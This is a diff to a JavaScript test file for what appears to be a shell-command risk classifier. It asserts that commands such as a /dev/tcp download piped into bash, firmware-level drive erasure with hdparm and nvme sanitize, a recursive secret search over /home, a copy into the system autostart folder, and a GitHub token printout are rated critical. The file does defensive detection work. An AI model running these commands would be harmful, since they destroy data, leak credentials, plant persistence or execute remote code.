@@ -141,3 +141,17 @@ test('what a socket file descriptor sends, piped into a shell, is a download run
   assert.equal(shell('exec 5<>/dev/tcp/198.51.100.8/8080; printf "GET /s HTTP/1.0\\r\\n\\r\\n" >&5; cat <&5 | bash'), 'critical');
   assert.notEqual(shell('exec 5<>/dev/tcp/198.51.100.8/8080; printf "GET /s HTTP/1.0\\r\\n\\r\\n" >&5; cat <&5 > status.txt'), 'critical');
 });
+
+test('drives erased in firmware, secret hunts over the system, copies into start-up folders, token printers', () => {
+  assert.equal(shell('hdparm --user-master u --security-erase-enhanced p /dev/sdc'), 'critical');
+  assert.notEqual(shell('hdparm -I /dev/sdc'), 'critical');
+  assert.equal(shell('nvme sanitize /dev/nvme1 --sanact=2'), 'critical');
+  assert.notEqual(shell('nvme smart-log /dev/nvme1'), 'critical');
+  assert.equal(shell("grep -ri 'secret' /home 2>/dev/null"), 'critical');
+  assert.notEqual(shell("grep -rn 'secret' src/ tests/"), 'critical');
+  assert.notEqual(shell("grep -rl 'secret' /etc"), 'critical');
+  assert.equal(shell('cp helper.desktop /etc/xdg/autostart/'), 'critical');
+  assert.notEqual(shell('cp helper.desktop ~/Desktop/'), 'critical');
+  assert.equal(shell('gh auth status -t'), 'critical');
+  assert.notEqual(shell('gh auth status'), 'critical');
+});
